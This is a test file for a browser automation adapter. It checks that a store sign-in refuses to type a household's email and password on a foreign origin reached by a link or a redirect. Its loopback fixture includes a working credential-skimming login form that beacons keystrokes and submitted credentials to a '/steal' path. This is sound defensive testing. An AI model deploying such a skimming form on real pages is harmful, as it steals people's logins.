import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { StoreBrowser } from "../../../../../functions/shop/adapters/store";
import { createPlaywrightStoreBrowser } from "../../../../../functions/shop/adapters/store/playwright";
import { scaledTimeout } from "../../../../support/test-timeouts";

/**
 * The sign-in types the household's email and password only on the store's login origins. Two stores on
 * loopback turn hostile: one whose account link leads to another origin, one whose login link redirects
 * there. That other origin serves a login form with the store's selectors that reports every key, input
 * and submit to itself, and its server records every request (path and body): none may carry the email
 * or the password, and the sign-in ends "needs a person" naming the origin it saw.
 */
const EMAIL = "ana@example.com";
const PASSWORD = "Larder-secret-7f3a9c!";
const LOGIN_PATH = "/on/demandware.store/Sites-AuchanPT-Site/pt_PT/Login-OAuthLogin";

type Handler = (request: IncomingMessage, response: ServerResponse, body: string) => void;
const listen = (handler: Handler): Promise<Server> =>
  new Promise((resolve) => {
    const server = createServer((request, response) => {
      let body = "";
      request.on("data", (chunk) => {
        body += String(chunk);
      });
      request.on("end", () => handler(request, response, body));
    });
    server.listen(0, "127.0.0.1", () => resolve(server));
  });
const originOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
const html = (response: ServerResponse, body: string) => {
  response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
  response.end(`<!doctype html><html><head><title>page</title></head><body>${body}</body></html>`);
};

/** The other origin's form: every keystroke, input and submit is sent home. */
const HOSTILE_FORM = `<h3>Aceda à sua conta</h3>
<input id="uname1" type="email"><input id="pwd1" type="password">
<input id="btnSubmit_login" type="button" value="Entrar">
<script>
const send = (what, value) => navigator.sendBeacon("/steal?" + what, String(value));
for (const id of ["uname1", "pwd1"]) {
  const field = document.getElementById(id);
  field.addEventListener("keydown", (event) => send("key-" + id, event.key));
  field.addEventListener("input", () => send("input-" + id, field.value));
}
document.getElementById("btnSubmit_login").addEventListener("click", () =>
  send("submit", document.getElementById("uname1").value + " " + document.getElementById("pwd1").value));
</script>`;

let hostile: Server;
let linkStore: Server;
let redirectStore: Server;
const hostileRequests: { path: string; body: string }[] = [];
const browsers: StoreBrowser[] = [];

beforeAll(async () => {
  hostile = await listen((request, response, body) => {
    hostileRequests.push({ path: request.url ?? "", body });
    html(response, HOSTILE_FORM);
  });
  // Its header's account link points straight at the other origin.
  linkStore = await listen((_request, response) =>
    html(
      response,
      `<div class="auc-header-account"><a href="${originOf(hostile)}${LOGIN_PATH}?oauthProvider=Salesforce">Login</a></div>`,
    ),
  );
  // Its account link is its own; the store answers it with a redirect to the other origin.
  redirectStore = await listen((request, response) => {
    if (request.url?.startsWith(LOGIN_PATH)) {
      response.writeHead(302, { location: `${originOf(hostile)}/authorization?startURL=%2Fpt` });
      response.end();
      return;
    }
    html(
      response,
      `<div class="auc-header-account"><a href="${LOGIN_PATH}?oauthProvider=Salesforce">Login</a></div>`,
    );
  });
});

beforeEach(() => {
  hostileRequests.length = 0;
});

afterAll(async () => {
  await Promise.all(browsers.map((browser) => browser.close()));
  for (const server of [hostile, linkStore, redirectStore]) await new Promise((done) => server?.close(done));
});

/** Signs in on `store` as a run does: the store browser for that store, its home page, then signIn. */
const signInAt = async (store: Server) => {
  const browser = createPlaywrightStoreBrowser({
    storeUrl: new URL(originOf(store)),
    timeoutMs: scaledTimeout(5_000),
  });
  browsers.push(browser);
  const session = await browser.openSession({ cookies: [] });
  try {
    expect(await session.isSignedIn(`${originOf(store)}/`)).toBe(false);
    return await session.signIn({ email: EMAIL, password: PASSWORD });
  } finally {
    await session.close();
  }
};

const expectNothingTyped = () => {
  const seen = JSON.stringify(hostileRequests);
  expect(seen).not.toContain(PASSWORD);
  expect(seen).not.toContain(EMAIL);
  expect(hostileRequests.filter((request) => request.path.startsWith("/steal"))).toEqual([]);
};

describe("the sign-in types the credentials only on the store's login origins", () => {
  it("does not follow an account link to another origin, and names that origin", async () => {
    const outcome = await signInAt(linkStore);
    expect(outcome).toEqual({ kind: "needs_person", seen: expect.stringContaining(originOf(hostile)) });
    expect(outcome.kind === "needs_person" && outcome.seen).toMatch(/nothing was typed/);
    expectNothingTyped();
  });

  it("types nothing on another origin's form that a redirect led to, and names that origin", async () => {
    const outcome = await signInAt(redirectStore);
    expect(outcome).toEqual({ kind: "needs_person", seen: expect.stringContaining(originOf(hostile)) });
    // The browser did land there (the form was served): only the origin check kept the keys away.
    expect(hostileRequests.map((request) => request.path)).toContain("/authorization?startURL=%2Fpt");
    expectNothingTyped();
  });
});
